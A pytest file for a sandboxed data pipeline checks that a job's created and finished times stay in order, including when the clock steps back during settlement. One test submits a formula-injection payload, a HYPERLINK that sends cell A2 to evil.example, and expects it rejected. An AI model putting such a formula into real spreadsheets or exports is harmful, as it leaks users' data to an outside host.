"""A job's times come from one clock, in order: it never finishes before it was created."""

from __future__ import annotations

import datetime as dt
import inspect

import pytest
from conftest import World

from sandbox.common import clock
from sandbox.pipeline import settlement

COUNT = 'emit("n", table("population").agg(n=count()).collect())'


def times(w: World, job_id: str) -> tuple[dt.datetime, dt.datetime]:
    job = w.client.get(f"/v1/jobs/{job_id}", headers=w.h(w.regulator)).json()
    return (
        dt.datetime.fromisoformat(job["created_at"]),
        dt.datetime.fromisoformat(job["finished_at"]),
    )


def test_a_rejected_job_is_created_and_finished_at_one_moment(local_world: World) -> None:
    w = local_world
    cid = w.active_contract()
    for _ in range(20):  # the disorder showed up now and then, so try it many times
        r = w.run(cid, '+HYPERLINK("http://evil.example/?"&A2,"x")')
        assert r.status_code == 400 and r.json()["code"] == "code_rejected"
        created, finished = times(w, r.json()["job_id"])
        assert created == finished


def test_a_finished_job_never_ends_before_it_began(
    local_world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    w = local_world
    cid = w.active_contract()
    job = w.run(cid, COUNT).json()
    created, finished = times(w, job["id"])
    assert created <= finished
    # A clock stepped back between submission and settlement still gives times in order.
    real = clock.now
    monkeypatch.setattr(
        clock, "now", lambda: real() - dt.timedelta(hours=1) if _settling() else real()
    )
    later = w.run(cid, COUNT).json()
    created, finished = times(w, later["id"])
    assert later["status"] == "succeeded" and created <= finished


def _settling() -> bool:
    return any(f.function == settlement.settle_job.__name__ for f in inspect.stack(context=0))
